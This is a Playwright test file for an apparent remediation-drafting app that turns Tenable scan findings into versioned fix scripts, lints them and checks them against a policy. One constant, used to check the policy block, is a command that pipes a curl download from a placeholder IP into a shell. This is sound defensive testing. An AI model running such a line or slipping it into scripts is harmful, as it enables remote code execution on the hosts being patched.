import { dirname, join } from 'node:path';
import type { Locator, Page } from '@playwright/test';
import { writeTinyModel } from '../../src-main/drafts/llm/tiny-model';
import { createVaultInUi, expect, test } from './harness';

const fixtures = join(import.meta.dirname, '..', 'fixtures');
/** Tenable VM CSV: CentOS/AlmaLinux/Ubuntu package findings and weak SSH crypto on Linux hosts. */
const TENABLE = join(fixtures, 'tenable_vm_csv', 'nessus_new.csv');
const DOWNLOAD = 'curl -fsSL http://203.0.113.9/x.sh | sh';

async function importFiles(page: Page, paths: string[]): Promise<void> {
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  await page.getByLabel('Files to import').fill(paths.join('\n'));
  await page.getByRole('button', { name: /^Import (file|\d+ files)$/ }).click();
  await expect(page.getByText('Import finished.')).toBeVisible({ timeout: 30_000 });
}

async function openScreen(page: Page, name: string): Promise<void> {
  await page.getByRole('button', { name, exact: true }).click();
  await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
}

const draft = (page: Page) => page.getByRole('article', { name: /^Draft \d+$/ });
const state = (page: Page) => draft(page).locator('header').getByTestId('draft-state');
const editor = (page: Page, step: string) =>
  draft(page).getByRole('textbox', { name: `${step} script` });
const lintPanel = (page: Page) => draft(page).getByRole('region', { name: 'Lint and policy' });
const feedback = (page: Page) => draft(page).getByRole('alert');
const status = (page: Page) => draft(page).getByRole('status');

async function tab(page: Page, step: string): Promise<Locator> {
  await draft(page)
    .getByRole('tab', { name: new RegExp(`^${step}`) })
    .click();
  const box = editor(page, step);
  await expect(box).toBeVisible();
  return box;
}

/**
 * Whether a script in the editor contains `needle`. CodeMirror renders only the lines near
 * the window's and its own viewport, so this brings the editor into view, scrolls it from
 * top to bottom and reads each rendering.
 */
async function scriptContains(box: Locator, needle: string): Promise<boolean> {
  return box.evaluate(async (content, text) => {
    const scroller = content.closest('.cm-scroller')!;
    scroller.scrollIntoView({ block: 'start' });
    const frame = () => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
    let found = false;
    for (let top = 0; ; top += Math.max(40, scroller.clientHeight / 2)) {
      scroller.scrollTop = top;
      await frame();
      const lines = [...content.querySelectorAll('.cm-line')].map((l) => l.textContent ?? '');
      if (lines.join('\n').includes(text)) found = true;
      if (found || top >= scroller.scrollHeight) break;
    }
    scroller.scrollTop = 0;
    return found;
  }, needle);
}

/** Scrolls the app's content so `locator` is at the top, for a screenshot of it. */
async function showAtTop(locator: Locator): Promise<void> {
  await locator.evaluate((el) => el.scrollIntoView({ block: 'start' }));
}

/** Every step's sh -n and shellcheck cells read "passed". */
async function expectLintPassed(page: Page): Promise<void> {
  const table = lintPanel(page).getByRole('table', { name: 'Lint results' });
  for (const step of ['precheck', 'apply', 'verify', 'rollback']) {
    const row = table.locator(`tr[data-step="${step}"]`);
    await expect(row.locator('[data-tool="sh -n"]')).toHaveText(/^passed/);
    await expect(row.locator('[data-tool="shellcheck"]')).toHaveText(/^passed/);
  }
}

test('drafts: rules draft from a finding, CodeMirror under the CSP, lint, policy block, versions and diff, ready', async ({
  page,
  harness,
}, testInfo) => {
  const cspViolations: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) cspViolations.push(m.text());
  });
  page.on('pageerror', (e) => cspViolations.push(`page error: ${e.message}`));

  await createVaultInUi(page, harness.url);
  await importFiles(page, [TENABLE]);

  // A CentOS java finding's detail → "Draft a fix".
  await openScreen(page, 'Findings');
  await page.getByLabel('Search findings').fill('java-11-openjdk');
  await page.getByLabel('Search findings').press('Enter');
  await expect(page.getByTestId('findings-count')).toHaveText('1 finding');
  const grid = page.getByRole('grid', { name: 'Findings' });
  await grid.locator('[role="row"][data-finding-id]').first().locator('.col-title button').click();
  const panel = page.getByRole('complementary', { name: 'Finding detail' });
  await expect(panel.getByRole('heading', { level: 2 })).toContainText(
    'CentOS 7 : java-11-openjdk',
  );
  await panel.getByRole('button', { name: 'Draft a fix' }).click();

  // The drafts screen picks the finding up and offers both engines.
  await expect(page.getByRole('heading', { level: 1, name: 'Drafts' })).toBeVisible();
  const target = page.getByRole('region', { name: 'Finding to fix' });
  await expect(target).toContainText('is waiting for a fix draft');
  await expect(target).toContainText('CentOS 7 : java-11-openjdk');
  await expect(target.getByRole('button', { name: 'Generate (LLM)' })).toBeDisabled();
  await target.getByRole('button', { name: 'Generate (rules)' }).click();

  // The editor shows the rules draft: CodeMirror with shell highlighting.
  await expect(draft(page)).toBeVisible({ timeout: 30_000 });
  await expect(target).toHaveCount(0); // the queued finding is done
  await expect(state(page)).toHaveText('draft');
  const apply = await tab(page, 'apply');
  await expect.poll(() => scriptContains(apply, 'dnf -y -q upgrade')).toBe(true);
  // CodeMirror's own styles applied (adopted style sheet in the shadow root: no CSP hole).
  const styled = await page.getByTestId('shell-editor').evaluate((host) => {
    const root = host.shadowRoot!;
    const gutters = root.querySelector('.cm-gutters');
    const highlighted = [...root.querySelectorAll('.cm-line span')].filter(
      (s) => getComputedStyle(s).color !== getComputedStyle(s.parentElement!).color,
    ).length;
    return {
      gutters: gutters ? getComputedStyle(gutters).display : null,
      adopted: root.adoptedStyleSheets.length,
      highlighted,
      styleTags: document.querySelectorAll('style').length,
    };
  });
  expect(styled.gutters).toBe('flex');
  expect(styled.adopted).toBeGreaterThan(0);
  expect(styled.highlighted).toBeGreaterThan(0);
  expect(styled.styleTags).toBe(0);

  // Lint: sh -n and shellcheck passed on every step; policy passed.
  await expectLintPassed(page);
  await expect(lintPanel(page).getByTestId('policy-status')).toContainText('Policy: passed');
  await showAtTop(draft(page));
  await page.screenshot({ path: testInfo.outputPath('drafts.png') });

  // Append a download piped into a shell: saved as version 2, blocked by policy.
  await apply.click();
  await page.keyboard.press('Control+End');
  // The rules end every script with a newline: the cursor is on the empty last line.
  await page.keyboard.insertText(`${DOWNLOAD}\n`);
  await expect(apply).toContainText(DOWNLOAD);
  await draft(page).getByLabel('Version note (optional)').fill('try a download');
  await draft(page).getByRole('button', { name: 'Save as new version' }).click();
  await expect(state(page)).toHaveText('blocked');
  await expect(status(page)).toContainText('Saved as version 2');
  const policy = lintPanel(page).getByTestId('policy-status');
  await expect(policy).toContainText('BLOCKED by policy');
  const findings = lintPanel(page).getByRole('table', { name: 'Policy findings' });
  await expect(findings).toContainText('pipes a download into a shell');
  await expect(findings).toContainText('apply');
  await expect(findings).toContainText(DOWNLOAD);

  // Mark ready is refused with the core's reason.
  await draft(page).getByRole('button', { name: 'Mark ready' }).click();
  await expect(feedback(page)).toContainText('blocked by policy');
  await expect(feedback(page)).toContainText('pipes a download into a shell');
  await expect(state(page)).toHaveText('blocked');
  await showAtTop(draft(page).locator('header'));
  await page.screenshot({ path: testInfo.outputPath('drafts-blocked.png') });
  await showAtTop(lintPanel(page));
  await page.screenshot({ path: testInfo.outputPath('drafts-blocked-policy.png') });

  // Restore version 1's scripts and save: version 3, back to draft.
  const versions = draft(page).getByRole('table', { name: 'Draft versions' });
  await expect(versions.locator('tr[data-version="2"]')).toContainText('try a download');
  await expect(versions.locator('tr[data-version="2"]')).toContainText('manual');
  await expect(versions.locator('tr[data-version="1"]')).toContainText('rules');
  await draft(page).getByRole('button', { name: 'Load version 1 into the editor' }).click();
  await expect.poll(() => scriptContains(apply, DOWNLOAD)).toBe(false);
  await draft(page).getByRole('button', { name: 'Save as new version' }).click();
  await expect(status(page)).toContainText('Saved as version 3');
  await expect(state(page)).toHaveText('draft');
  await expect(policy).toContainText('Policy: passed');
  await expectLintPassed(page);
  await expect(versions.locator('tr[data-version="3"]')).toContainText('Restore version 1');

  // Diff between versions 1 and 2 shows the added line in apply, and nothing else changed.
  await draft(page).getByLabel('From version').selectOption('1');
  await draft(page).getByLabel('To version').selectOption('2');
  await draft(page).getByRole('button', { name: 'Show diff' }).click();
  const diff = draft(page).getByRole('region', { name: 'Diff from version 1 to 2' });
  await expect(diff.locator('[data-step="apply"] .diff-add')).toHaveText([`+ ${DOWNLOAD}`]);
  await expect(diff.locator('.diff-del')).toHaveCount(0);
  await expect(diff).toContainText('precheck: no changes');
  await showAtTop(draft(page).getByRole('region', { name: 'Versions' }));
  await page.screenshot({ path: testInfo.outputPath('drafts-diff.png') });

  // Lint and policy of an older version stay readable.
  await draft(page).getByRole('button', { name: 'Show lint and policy of version 2' }).click();
  await expect(policy).toContainText('BLOCKED by policy');
  await draft(page).getByRole('button', { name: 'Show lint and policy of version 3' }).click();
  await expect(policy).toContainText('Policy: passed');

  // Mark ready → ready; the list's filter shows it.
  await draft(page).getByRole('button', { name: 'Mark ready' }).click();
  await expect(state(page)).toHaveText('ready');
  await expect(status(page)).toContainText('ready for approval (version 3)');
  const list = page.getByRole('navigation', { name: 'Drafts by state' });
  await list.getByRole('button', { name: 'Ready 1' }).click();
  await expect(list.getByRole('list', { name: 'Drafts' }).getByRole('button')).toHaveCount(1);
  await list.getByRole('button', { name: /^All/ }).click();

  expect(cspViolations).toEqual([]);
});

test('drafts: group draft (weak SSH crypto), archive with confirmation, policy panel, models', async ({
  page,
  harness,
}, testInfo) => {
  await createVaultInUi(page, harness.url);
  await importFiles(page, [TENABLE]);
  await openScreen(page, 'Drafts');

  // Rule groups: the weak SSH crypto configuration fix covers several Linux hosts.
  const groups = page.getByRole('table', { name: 'Rule groups' });
  await expect(groups).toBeVisible();
  const ssh = groups.locator('tr[data-group-key="cfg:ssh-weak-crypto"]');
  await expect(ssh).toBeVisible();
  const hosts = Number(await ssh.locator('td').nth(2).textContent());
  expect(hosts).toBeGreaterThan(1);
  await ssh.getByRole('button', { name: 'Generate (rules)' }).click();

  await expect(draft(page)).toBeVisible({ timeout: 30_000 });
  await expect(draft(page).locator('header')).toContainText('cfg:ssh-weak-crypto');
  await expect(draft(page).locator('header')).toContainText(`${hosts} hosts`);
  const apply = await tab(page, 'apply');
  await expect.poll(() => scriptContains(apply, 'if ! "$SSHD" -t; then')).toBe(true);
  await expect.poll(() => scriptContains(apply, 'sshd_config.backup')).toBe(true);
  const rollback = await tab(page, 'rollback');
  await expect.poll(() => scriptContains(rollback, 'sshd_config.backup')).toBe(true);
  await expectLintPassed(page);
  await showAtTop(draft(page));
  await page.screenshot({ path: testInfo.outputPath('drafts-group.png') });

  // Metadata edits are a version too; the list shows the new version.
  await draft(page).getByLabel('Services to restart (comma-separated)').fill('sshd, auditd');
  await draft(page).getByRole('button', { name: 'Save as new version' }).click();
  await expect(status(page)).toContainText('Saved as version 2');
  await expect(draft(page).getByLabel('Services to restart (comma-separated)')).toHaveValue(
    'sshd, auditd',
  );

  // Admin policy: an extra rule blocks the draft on Recheck; removing it clears the block.
  const policyPanel = page.getByRole('group', { name: 'Draft policy' });
  await policyPanel.locator('summary').click();
  await expect(policyPanel.getByRole('table', { name: 'Built-in rules' })).toContainText(
    'pipes a download into a shell',
  );
  await policyPanel.getByLabel('Rule name').fill('no-sshd-reload');
  await policyPanel.getByLabel('Pattern (regular expression)').fill('systemctl reload sshd');
  await policyPanel.getByLabel('Reason').fill('site rule: no sshd changes this quarter');
  await policyPanel.getByRole('button', { name: 'Add rule' }).click();
  await expect(policyPanel.getByRole('table', { name: 'Extra rules' })).toContainText(
    'no-sshd-reload',
  );
  await policyPanel.getByRole('button', { name: 'Save policy' }).click();
  await expect(policyPanel.getByRole('status')).toContainText('Policy saved');
  await showAtTop(policyPanel);
  await page.screenshot({ path: testInfo.outputPath('drafts-policy.png') });
  await draft(page).getByRole('button', { name: 'Recheck' }).click();
  await expect(state(page)).toHaveText('blocked');
  await expect(lintPanel(page).getByRole('table', { name: 'Policy findings' })).toContainText(
    'site rule: no sshd changes this quarter',
  );
  await policyPanel
    .getByRole('table', { name: 'Extra rules' })
    .getByRole('button', { name: 'Remove' })
    .click();
  await policyPanel.getByRole('button', { name: 'Save policy' }).click();
  await expect(policyPanel.getByRole('status')).toContainText('Policy saved');
  await draft(page).getByRole('button', { name: 'Recheck' }).click();
  await expect(state(page)).toHaveText('draft');
  await expect(lintPanel(page).getByTestId('policy-status')).toContainText('Policy: passed');

  // Archive asks first; Cancel keeps the draft.
  await draft(page).getByRole('button', { name: 'Archive…' }).click();
  const dialog = page.getByRole('dialog', { name: /Archive draft #\d+\?/ });
  await expect(dialog).toBeVisible();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(state(page)).toHaveText('draft');
  await draft(page).getByRole('button', { name: 'Archive…' }).click();
  await dialog.getByRole('button', { name: 'Archive' }).click();
  await expect(state(page)).toHaveText('archived');
  await expect(draft(page).getByRole('button', { name: 'Mark ready' })).toHaveCount(0);
  await expect(draft(page).getByRole('button', { name: 'Save as new version' })).toHaveCount(0);
  await expect(await tab(page, 'apply')).toHaveAttribute('contenteditable', 'false');
  const list = page.getByRole('navigation', { name: 'Drafts by state' });
  await expect(list.getByRole('button', { name: 'Archived 1' })).toBeVisible();

  // Models: none registered → the LLM path says how to add one; a bad path shows the core's error.
  const models = page.getByRole('group', { name: 'Local models' });
  await models.locator('summary').click();
  await expect(page.getByTestId('no-model-help')).toContainText('GGUF');
  await models.getByLabel('GGUF file path').fill('/nonexistent/model.gguf');
  await models.getByRole('button', { name: 'Add model' }).click();
  await expect(models.getByRole('alert')).toContainText('is not a usable GGUF model');
  // The group list folded once a draft existed; without a model its LLM buttons are disabled.
  await expect(groups).toBeHidden();
  await page.getByRole('heading', { name: 'Generate from a rule group' }).click();
  await expect(ssh.getByRole('button', { name: 'Generate (LLM)' })).toBeDisabled();
  await expect(ssh.getByRole('button', { name: 'Generate (rules)' })).toBeEnabled();
});

test('drafts: local model registry and an LLM generation with live progress and cancel', async ({
  page,
  harness,
}, testInfo) => {
  // The tiny random-weight GGUF the project writes for tests (npm run fixture:tiny-model).
  const model = await writeTinyModel(join(dirname(harness.vaultPath), 'models', 'tiny.gguf'));
  await createVaultInUi(page, harness.url);
  await importFiles(page, [TENABLE]);
  await openScreen(page, 'Drafts');

  const models = page.getByRole('group', { name: 'Local models' });
  await models.locator('summary').click();
  await models.getByLabel('GGUF file path').fill(model.path);
  await models.getByLabel('Name (optional)').fill('tiny');
  await models.getByRole('button', { name: 'Add model' }).click();
  const added = page.getByTestId('added-model');
  await expect(added).toContainText(model.sha256);
  await expect(added).toContainText('llama');
  await expect(models.getByRole('table', { name: 'Local models' })).toContainText('tiny');
  await expect(models.getByLabel('Model for LLM drafts')).toHaveValue(/\d+/);

  // A finding no rule fixes: the model drafts it. Progress in tokens and tokens/s, then Cancel.
  await openScreen(page, 'Findings');
  await page.getByLabel('Search findings').fill('Network daemons not managed');
  await page.getByLabel('Search findings').press('Enter');
  const grid = page.getByRole('grid', { name: 'Findings' });
  await grid.locator('[role="row"][data-finding-id]').first().locator('.col-title button').click();
  const panel = page.getByRole('complementary', { name: 'Finding detail' });
  await panel.getByRole('button', { name: 'Draft a fix' }).click();
  const target = page.getByRole('region', { name: 'Finding to fix' });
  await target.getByRole('button', { name: 'Generate (LLM)' }).click();
  const job = page.getByRole('status', { name: 'Generation' });
  await expect(job).toContainText('(local model)');
  await expect(page.getByTestId('generation-progress')).toContainText('tokens/s', {
    timeout: 30_000,
  });
  await page.screenshot({ path: testInfo.outputPath('drafts-llm-progress.png') });
  await job.getByRole('button', { name: 'Cancel' }).click();
  await expect(job).toHaveCount(0, { timeout: 30_000 });
  await expect(page.getByText('Generation cancelled; nothing was saved.')).toBeVisible();
  await expect(
    page
      .getByRole('navigation', { name: 'Drafts by state' })
      .getByRole('button', { name: 'All 0' }),
  ).toBeVisible();

  // Removing the model asks first; the file stays.
  await models.locator('summary').click();
  await models.getByRole('button', { name: 'Remove' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Remove' }).click();
  await expect(page.getByTestId('no-model-help')).toBeVisible();
});
